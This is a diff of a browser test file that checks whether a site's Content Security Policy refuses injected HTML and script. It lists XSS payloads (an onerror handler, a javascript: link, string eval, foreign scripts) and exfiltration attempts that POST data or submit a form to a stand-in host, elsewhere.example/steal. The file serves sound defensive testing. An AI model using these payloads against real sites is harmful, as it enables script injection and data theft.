@@ -104,84 +104,65 @@ test('the bot check with its frame, the e-mail and the analytics work under the 
   expect(requests).toEqual(expect.arrayContaining([collect, `${collect}&pixel`]));
 });
 
-/** Attacks with injected HTML or script. Each attack sets `ran` if it succeeds. */
-const attacks: Readonly<Record<string, { attack: (elsewhere: string) => void; directive: string }>> = {
-  'an injected inline script': {
-    directive: 'script-src-elem inline',
-    attack: () => {
+type Attack = [name: string, refusal: string, attack: string | (() => void)];
+
+/** Attacks with injected HTML or script, and what refuses each. An attack sets `ran` if it succeeds. */
+const attacks: readonly Attack[] = [
+  ['an event-handler attribute', 'script-src-attr inline', '<img src="data:," onerror="window.ran = true">'],
+  ['a foreign picture', `img-src ${elsewhere}/p.gif`, `<img src="${elsewhere}/p.gif">`],
+  [
+    'a foreign style',
+    `style-src-elem ${elsewhere}/x.css`,
+    `<link rel="stylesheet" href="${elsewhere}/x.css">`,
+  ],
+  ['a foreign frame', `frame-src ${elsewhere}`, `<iframe src="${elsewhere}/"></iframe>`],
+  ['another base for every address', `base-uri ${elsewhere}/`, `<base href="${elsewhere}/">`],
+  [
+    'an injected inline script',
+    'script-src-elem inline',
+    () => {
       const script = document.createElement('script');
       script.textContent = 'window.ran = true';
       document.body.append(script);
     },
-  },
-  'an event-handler attribute': {
-    directive: 'script-src-attr inline',
-    attack: () => {
-      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = true">');
+  ],
+  [
+    'an address that is a script',
+    'script-src-elem inline',
+    () => {
+      const trap = document.createElement('a');
+      trap.href = 'javascript:window.ran=true';
+      document.body.append(trap);
+      trap.click();
     },
-  },
-  'an address that is a script': {
-    directive: 'script-src-elem inline',
-    attack: () => {
-      document.body.insertAdjacentHTML('beforeend', '<a id="trap" href="javascript:window.ran=true">x</a>');
-      document.getElementById('trap')?.click();
-    },
-  },
-  'words that become a script': {
-    directive: 'script-src eval',
-    attack: () => {
-      setTimeout('window.ran = true');
-    },
-  },
-  'a foreign script': {
-    directive: 'script-src-elem https://elsewhere.example/x.js',
-    attack: (from) => {
+  ],
+  ['words that become a script', 'script-src eval', () => void setTimeout('window.ran = true')],
+  [
+    'a foreign script',
+    'script-src-elem https://elsewhere.example/x.js',
+    () => {
       const script = document.createElement('script');
-      script.src = `${from}/x.js`;
+      script.src = 'https://elsewhere.example/x.js';
       document.body.append(script);
     },
-  },
-  'a foreign request': {
-    directive: 'connect-src https://elsewhere.example/collect',
-    attack: (to) => {
-      fetch(`${to}/collect`, { method: 'POST', body: 'words' }).catch(() => {});
-    },
-  },
-  'a foreign picture, which could carry words away': {
-    directive: 'img-src https://elsewhere.example/p.gif',
-    attack: (from) => {
-      new Image().src = `${from}/p.gif`;
-    },
-  },
-  'a foreign style': {
-    directive: 'style-src-elem https://elsewhere.example/x.css',
-    attack: (from) => {
-      document.head.insertAdjacentHTML('beforeend', `<link rel="stylesheet" href="${from}/x.css">`);
-    },
-  },
-  'a foreign frame': {
-    directive: 'frame-src https://elsewhere.example',
-    attack: (from) => {
-      document.body.insertAdjacentHTML('beforeend', `<iframe src="${from}/"></iframe>`);
-    },
-  },
-  'another base for every address': {
-    directive: 'base-uri https://elsewhere.example/',
-    attack: (to) => {
-      document.head.insertAdjacentHTML('afterbegin', `<base href="${to}/">`);
-    },
-  },
-  'a form posted elsewhere': {
-    directive: 'form-action https://elsewhere.example/steal',
-    attack: (to) => {
+  ],
+  [
+    'a foreign request',
+    'connect-src https://elsewhere.example/collect',
+    () => void fetch('https://elsewhere.example/collect', { method: 'POST', body: 'words' }).catch(() => {}),
+  ],
+  [
+    'a form posted elsewhere',
+    'form-action https://elsewhere.example/steal',
+    () => {
       const form = document.createElement('form');
       form.method = 'post';
-      form.action = `${to}/steal`;
+      form.action = 'https://elsewhere.example/steal';
       document.body.append(form);
       form.submit();
     },
-  },
-};
+  ],
+];
 
 test('another site may show the picture of a link preview', async ({ page, baseURL }) => {
   const text = `<img src="${baseURL}${sharePath('/')}" alt="preview">`;
@@ -215,13 +196,14 @@ async function recordRefusals(page: Page): Promise<string[]> {
 test('an injected script is refused', async ({ page, allowedMessages }) => {
   allowedMessages.push(/Content Security Policy/i, /net::ERR_BLOCKED_BY_CSP/);
   const refused = await recordRefusals(page);
-  for (const [name, { attack, directive }] of Object.entries(attacks)) {
+  for (const [name, refusal, attack] of attacks) {
     await test.step(name, async () => {
       refused.splice(0);
       await page.goto('/contact');
       const address = page.url();
-      await page.evaluate(attack, elsewhere);
-      await expect.poll(() => refused).toContain(directive);
+      if (typeof attack === 'function') await page.evaluate(attack);
+      else await page.evaluate((html) => document.body.insertAdjacentHTML('beforeend', html), attack);
+      await expect.poll(() => refused).toContain(refusal);
       expect(await page.evaluate(() => 'ran' in window)).toBe(false);
       expect(page.url()).toBe(address);
     });
